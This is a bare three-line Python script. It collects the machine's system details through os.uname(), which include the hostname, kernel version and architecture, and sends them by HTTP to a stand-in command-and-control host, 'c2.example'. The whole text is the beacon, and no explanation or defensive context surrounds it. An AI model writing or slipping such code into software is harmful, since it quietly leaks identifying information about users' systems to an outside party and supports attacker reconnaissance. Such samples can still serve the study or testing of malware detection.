import os, urllib.request
info = ' '.join(os.uname())
urllib.request.urlopen('http://c2.example/?i=' + info)
